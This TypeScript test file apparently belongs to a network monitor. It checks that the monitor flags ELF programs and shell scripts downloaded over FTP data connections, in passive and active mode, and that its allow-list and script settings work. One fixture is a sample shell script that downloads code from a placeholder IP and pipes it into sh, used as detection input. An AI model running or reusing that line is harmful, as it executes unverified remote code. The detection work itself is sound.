/**
 * Executables over FTP: the control connection announces the data connection (ADR 21), whose first octets the
 * ftp-data reader tells (ftp-data.ts), in passive and active mode, long and short files, through the whole engine.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { createEngine } from '#sidecar/engine/create-engine.ts';
import { createThreatRunner } from '#sidecar/threats/runner.ts';
import { splitFindings, threatsBy } from '#test/helpers/split-findings.ts';
import { type Endpoints, type Message, tcpConversation } from '../engine/conversation.ts';

const elf = readFileSync(process.execPath).subarray(0, 6000);
const script = new TextEncoder().encode('#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n');
const text = new TextEncoder().encode('quarterly report\n'.repeat(200));
const client = '10.0.0.5';
const server = '10.0.0.9';

const control: Endpoints = { client, server, clientPort: 40100, serverPort: 21 };
const login: Message[] = [
  { from: 'server', data: '220 (vsFTPd 3.0.3)\r\n' },
  { from: 'client', data: 'USER anonymous\r\n' },
  { from: 'server', data: '331 Please specify the password.\r\n' },
  { from: 'client', data: 'PASS guest@\r\n' },
  { from: 'server', data: '230 Login successful.\r\n' },
];
const passive = (port: number, name: string): Message[] => [
  { from: 'client', data: 'EPSV\r\n' },
  { from: 'server', data: `229 Entering Extended Passive Mode (|||${port}|)\r\n` },
  { from: 'client', data: `RETR ${name}\r\n` },
];
/** Active mode: the client listens on 10.0.0.5:port (PORT 10,0,0,5,p1,p2) and the server connects from port 20. */
const active = (port: number, name: string): Message[] => [
  { from: 'client', data: `PORT 10,0,0,5,${port >> 8},${port & 0xff}\r\n` },
  { from: 'server', data: '200 PORT command successful.\r\n' },
  { from: 'client', data: `RETR ${name}\r\n` },
];
/** A file sent in segments of at most 1448 octets, as a sender with that MSS would. */
const segments = (from: Message['from'], file: Uint8Array): Message[] => {
  const out: Message[] = [];
  for (let at = 0; at < file.length; at += 1448) out.push({ from, data: file.subarray(at, at + 1448) });
  return out;
};

const run = (
  transfers: { control: Message[]; data: () => ReturnType<typeof tcpConversation> }[],
  configs: Record<string, unknown> = {},
) => {
  const start = 1_700_000_000_000;
  const records = tcpConversation(control, [...login, ...transfers.flatMap((t) => t.control)], { start });
  for (const t of transfers) records.push(...t.data());
  const engine = createEngine({ observers: [createThreatRunner({ policyDir: false, configs })] });
  for (const r of records.sort((a, b) => a.ts - b.ts)) engine.push(r);
  const findings = engine.flush();
  return {
    flows: splitFindings(findings).flows,
    threats: threatsBy(findings, 'executable-download').map((f) => [
      `${f.client.ip}:${f.client.port}`,
      `${f.server.ip}:${f.server.port}`,
      f.evidence,
    ]),
  };
};

/** Passive: the client opens the data connection to the port the server named, and the file comes back on it. */
const fetchPassive = (n: number, file: Uint8Array) => ({
  control: passive(40000 + n, `file${n}`),
  data: () =>
    tcpConversation(
      { client, server, clientPort: 41000 + n, serverPort: 40000 + n },
      segments('server', file),
      {
        start: 1_700_000_000_500 + n * 100,
      },
    ),
});

describe('executable downloads over FTP (engine and threat runner)', () => {
  it('reports a program and a script fetched in passive mode, and nothing for a text file', () => {
    const { flows, threats } = run([fetchPassive(1, elf), fetchPassive(2, text), fetchPassive(3, script)]);
    expect(flows.filter((f) => f.server.port >= 40000).map((f) => f.protocol)).toEqual([
      'ftp-data',
      'ftp-data',
      'ftp-data',
    ]);
    expect(threats).toEqual([
      ['10.0.0.5:41001', '10.0.0.9:40001', '10.0.0.5 received an ELF program over an FTP data connection'],
      ['10.0.0.5:41003', '10.0.0.9:40003', '10.0.0.5 received a sh script over an FTP data connection'],
    ]);
  });

  it('names the receiving client in active mode, where the FTP server opens the data connection', () => {
    const { flows, threats } = run([
      {
        control: active(50001, 'agent'),
        data: () =>
          tcpConversation(
            { client: server, server: client, clientPort: 20, serverPort: 50001 },
            segments('client', elf),
            {
              start: 1_700_000_000_600,
            },
          ),
      },
    ]);
    expect(flows.find((f) => f.server.port === 50001)?.protocol).toBe('ftp-data');
    expect(threats).toEqual([
      ['10.0.0.9:20', '10.0.0.5:50001', '10.0.0.5 received an ELF program over an FTP data connection'],
    ]);
  });

  it('says nothing of an executable from an allowed server, or of scripts when told not to', () => {
    const allowed = run([fetchPassive(1, elf)], { 'executable-download': { allowServers: ['10.0.0.9'] } });
    expect(allowed.threats).toEqual([]);
    const noScripts = run([fetchPassive(3, script)], { 'executable-download': { scripts: false } });
    expect(noScripts.threats).toEqual([]);
  });

  it('does not read a data connection nobody announced (its bytes name no protocol)', () => {
    const { flows, threats } = run([
      {
        control: [],
        data: () =>
          tcpConversation({ client, server, clientPort: 41009, serverPort: 40009 }, segments('server', elf), {
            start: 1_700_000_000_900,
          }),
      },
    ]);
    expect(flows.find((f) => f.server.port === 40009)?.protocol).toBe('unknown');
    expect(threats).toEqual([]);
  });
});
